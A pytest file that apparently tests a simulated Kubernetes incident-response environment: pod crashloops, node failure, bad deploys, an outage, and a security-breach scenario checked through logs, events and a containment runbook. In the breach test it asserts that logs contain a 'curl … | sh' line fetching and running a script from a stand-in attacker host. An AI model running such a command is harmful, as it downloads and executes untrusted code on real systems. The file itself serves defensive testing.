"""Scenarios and controllers seen from outside: a real `irtui sim` process, the real kubectl and
the official Python client, with time moved by `POST /sim/advance` (never by waiting).
"""

from __future__ import annotations

import json

import httpx
import pytest
import yaml
from kubernetes import client, config

NS = "emrtask-prod"


def advance(sim, seconds: float) -> None:
    sim.control("POST", "/sim/advance", json={"seconds": seconds})


def pods(sim, prefix: str = "") -> list[dict]:
    items = json.loads(sim.kubectl("get", "pods", "-n", NS, "-o", "json").stdout)["items"]
    return [p for p in items if p["metadata"]["name"].startswith(prefix)]


def get_pods_table(sim) -> dict[str, list[str]]:
    """`kubectl get pods` rows by name: [READY, STATUS, RESTARTS ...]."""
    lines = sim.kubectl("get", "pods", "-n", NS).stdout.splitlines()[1:]
    return {line.split()[0]: line.split()[1:] for line in lines}


def proxy(sim, service: str, port: int, path: str):
    return sim.kubectl("get", "--raw", f"/api/v1/namespaces/{NS}/services/{service}:{port}/proxy{path}", check=False)


def proxy_http(sim, service: str, port: int, path: str) -> httpx.Response:
    """The service proxy with the current context's token, status and body as the server sent them."""
    kc = yaml.safe_load(open(sim.kubeconfig))
    context = next(c["context"] for c in kc["contexts"] if c["name"] == kc["current-context"])
    token = next(u["user"]["token"] for u in kc["users"] if u["name"] == context["user"])
    return httpx.get(f"{sim.url}/api/v1/namespaces/{NS}/services/{service}:{port}/proxy{path}",
                     headers={"Authorization": f"Bearer {token}"}, timeout=10)


def test_crashloop_task_service_as_kubectl_sees_it(sim):
    sim.control("POST", "/sim/scenarios/crashloop-task-service")
    assert "crashloop-task-service" in sim.control("GET", "/sim/scenarios").json()["active"]
    advance(sim, 120)
    rows = {n: r for n, r in get_pods_table(sim).items() if n.startswith("task-service")}
    assert len(rows) == 3
    assert {r[0] for r in rows.values()} == {"0/1"}
    assert {r[1] for r in rows.values()} <= {"CrashLoopBackOff", "Error"}
    first = {n: int(r[2]) for n, r in rows.items()}
    advance(sim, 240)
    later = {n: int(r[2]) for n, r in get_pods_table(sim).items() if n in first}
    assert all(later[n] > first[n] for n in first) and min(later.values()) >= 3

    name = next(iter(first))
    previous = sim.kubectl("logs", "-n", NS, name, "--previous").stdout
    assert "Knex: Timeout acquiring a connection. The pool is probably full." in previous
    events = sim.kubectl("get", "events", "-n", NS, "--field-selector", f"involvedObject.name={name},reason=BackOff",
                         "-o", "json").stdout
    backoff = json.loads(events)["items"]
    assert backoff and backoff[0]["count"] >= 3 and backoff[0]["type"] == "Warning"

    health = proxy(sim, "task-service", 3000, "/health")
    assert health.returncode != 0 and "no endpoints available" in health.stderr
    gateway = proxy(sim, "api-gateway", 3000, "/health")
    assert gateway.returncode == 0 and json.loads(gateway.stdout)["status"] == "degraded"
    metrics = proxy(sim, "api-gateway", 9090, "/metrics").stdout
    assert 'http_requests_total{service="api-gateway",method="GET",code="503"}' in metrics

    sim.control("DELETE", "/sim/scenarios/crashloop-task-service")
    advance(sim, 400)
    rows = {n: r for n, r in get_pods_table(sim).items() if n.startswith("task-service")}
    assert {tuple(r[:2]) for r in rows.values()} == {("1/1", "Running")}
    assert json.loads(proxy(sim, "task-service", 3000, "/health").stdout)["status"] == "ok"


def test_deleted_pod_is_replaced_and_restart_and_undo_roll_replicasets(sim):
    victim = pods(sim, "handover-service")[0]["metadata"]["name"]
    sim.kubectl("delete", "pod", "-n", NS, victim, "--wait=false")
    advance(sim, 30)
    names = [p["metadata"]["name"] for p in pods(sim, "handover-service")]
    assert victim not in names and len(names) == 2
    assert all(p["status"]["phase"] == "Running" for p in pods(sim, "handover-service"))

    before = {rs["metadata"]["name"] for rs in json.loads(
        sim.kubectl("get", "rs", "-n", NS, "-l", "app=api-gateway", "-o", "json").stdout)["items"]}
    sim.kubectl("rollout", "restart", "deployment/api-gateway", "-n", NS)
    advance(sim, 90)
    sim.kubectl("rollout", "status", "deployment/api-gateway", "-n", NS, "--timeout=20s")
    items = json.loads(sim.kubectl("get", "rs", "-n", NS, "-l", "app=api-gateway", "-o", "json").stdout)["items"]
    new = [rs for rs in items if rs["metadata"]["name"] not in before]
    assert len(new) == 1 and new[0]["status"]["readyReplicas"] == 3
    assert new[0]["metadata"]["annotations"]["deployment.kubernetes.io/revision"] == "4"

    sim.kubectl("rollout", "undo", "deployment/api-gateway", "-n", NS)
    advance(sim, 90)
    sim.kubectl("rollout", "status", "deployment/api-gateway", "-n", NS, "--timeout=20s")
    deploy = json.loads(sim.kubectl("get", "deploy", "api-gateway", "-n", NS, "-o", "json").stdout)
    assert deploy["metadata"]["annotations"]["deployment.kubernetes.io/revision"] == "5"
    assert "kubectl.kubernetes.io/restartedAt" not in (deploy["spec"]["template"]["metadata"].get("annotations") or {})

    sim.kubectl("scale", "deployment/sync-service", "-n", NS, "--replicas=4")
    advance(sim, 30)
    out = sim.kubectl("get", "deploy", "sync-service", "-n", NS).stdout
    assert out.splitlines()[1].split()[1] == "4/4"


def test_node_notready_and_its_pods_through_the_python_client(sim):
    config.load_kube_config(config_file=sim.kubeconfig)
    core = client.CoreV1Api()
    sim.control("POST", "/sim/scenarios/node-notready")
    advance(sim, 60)
    lost = [n for n in core.list_node().items
            if any(c.type == "Ready" and c.status != "True" for c in n.status.conditions)]
    assert len(lost) == 1
    name = lost[0].metadata.name
    assert "NotReady" in sim.kubectl("get", "node", name).stdout
    assert any(t.key == "node.kubernetes.io/unreachable" for t in lost[0].spec.taints)
    on_node = core.list_namespaced_pod(NS, field_selector=f"spec.nodeName={name}").items
    assert on_node and all(not cs.ready for p in on_node for cs in p.status.container_statuses)
    sim.control("DELETE", "/sim/scenarios/node-notready")
    advance(sim, 30)
    assert "Ready" in sim.kubectl("get", "node", name).stdout.splitlines()[1].split()[1]


def test_emr_fallback_mode_through_kubectl_set_env(sim):
    sim.control("POST", "/sim/scenarios/emr-integration-failure")
    advance(sim, 30)
    health = proxy_http(sim, "emr-service", 3000, "/health")
    assert health.status_code == 503 and health.json()["error"] == "EMR upstream unavailable"
    sim.kubectl("set", "env", "deployment/emr-service", "-n", NS, "EMR_FALLBACK_MODE=true")
    advance(sim, 90)
    health = proxy(sim, "emr-service", 3000, "/health")
    assert health.returncode == 0 and json.loads(health.stdout)["status"] == "degraded"


def test_bad_deploy_image_pull_backoff_fixed_by_rollout_undo(sim):
    sim.control("POST", "/sim/scenarios/bad-deploy")
    advance(sim, 60)
    statuses = [r[1] for n, r in get_pods_table(sim).items() if n.startswith("api-gateway")]
    assert statuses.count("Running") == 3 and ({"ImagePullBackOff", "ErrImagePull"} & set(statuses))
    sim.kubectl("rollout", "undo", "deployment/api-gateway", "-n", NS)
    advance(sim, 60)
    sim.kubectl("rollout", "status", "deployment/api-gateway", "-n", NS, "--timeout=20s")
    statuses = [r[1] for n, r in get_pods_table(sim).items() if n.startswith("api-gateway")]
    assert statuses == ["Running"] * 3
    advance(sim, 10)
    assert "bad-deploy" not in sim.control("GET", "/sim/scenarios").json()["active"]


@pytest.mark.parametrize("scenario", ["complete-outage"])
def test_complete_outage_and_top(sim, scenario):
    sim.control("POST", f"/sim/scenarios/{scenario}")
    advance(sim, 30)
    assert get_pods_table(sim)["postgres-0"][0] == "0/1"
    for svc in ("api-gateway", "task-service", "emr-service", "sync-service", "handover-service"):
        health = proxy(sim, svc, 3000, "/health")
        assert health.returncode != 0, svc
    top = sim.kubectl("top", "pods", "-n", NS).stdout
    assert "postgres-0" in top and "CPU(cores)" in top
    sim.kubectl("delete", "pod", "postgres-0", "-n", NS, "--wait=false")
    advance(sim, 40)
    assert get_pods_table(sim)["postgres-0"][:2] == ["1/1", "Running"]
    assert json.loads(proxy(sim, "api-gateway", 3000, "/health").stdout)["status"] == "ok"


def test_security_breach_shows_in_logs_and_events_not_in_health(sim):
    from irtui.sim.scenarios import ATTACKER, INTRUDER, LEAKED_SECRET

    sim.control("POST", "/sim/scenarios/security-breach")
    advance(sim, 120)
    compromised = [p["metadata"]["name"] for p in pods(sim, "sync-service-")]
    assert compromised
    for name in compromised:
        logs = sim.kubectl("logs", "-n", NS, name).stdout
        assert f"connect to {ATTACKER}:443" in logs, logs[-2000:]
        assert "request completed" in logs  # the service itself keeps working
    logs = "".join(sim.kubectl("logs", "-n", NS, name).stdout for name in compromised)
    assert f"curl -fsSL http://{ATTACKER}/x.sh | sh" in logs
    assert f"(secret {LEAKED_SECRET})" in logs

    events = sim.kubectl("get", "events", "-n", NS, "--field-selector", "type=Warning").stdout
    for reason in ("ExecIntoPod", "OutboundConnection", "SecretAccessed", "ClusterRoleBindingCreated"):
        assert reason in events, (reason, events)
    described = json.loads(sim.kubectl("get", "events", "-n", NS, "-o", "json").stdout)["items"]
    leaked = [e for e in described if e["reason"] == "SecretAccessed"]
    assert leaked[0]["involvedObject"]["kind"] == "Secret" and leaked[0]["involvedObject"]["name"] == LEAKED_SECRET
    execs = [e for e in described if e["reason"] == "ExecIntoPod"]
    assert {e["involvedObject"]["name"] for e in execs} == set(compromised)
    assert all(INTRUDER in e["message"] for e in execs)

    # A breach looks healthy: every /health still says ok, through the service proxy.
    for svc in ("api-gateway", "task-service", "emr-service", "sync-service", "handover-service"):
        health = proxy(sim, svc, 3000, "/health")
        assert health.returncode == 0 and json.loads(health.stdout)["status"] == "ok", (svc, health.stdout)
    assert "security-breach" in sim.control("GET", "/sim/scenarios").json()["active"]

    # Contain it as the runbook says: isolate the service, revoke the credential.
    sim.kubectl("scale", "deployment/sync-service", "-n", NS, "--replicas=0")
    sim.kubectl("delete", "secret", LEAKED_SECRET, "-n", NS)
    advance(sim, 30)
    assert "security-breach" not in sim.control("GET", "/sim/scenarios").json()["active"]
    sim.kubectl("scale", "deployment/sync-service", "-n", NS, "--replicas=2")
    advance(sim, 60)
    fresh = [p["metadata"]["name"] for p in pods(sim, "sync-service-")]
    assert fresh and not set(fresh) & set(compromised)
    for name in fresh:
        assert ATTACKER not in sim.kubectl("logs", "-n", NS, name).stdout
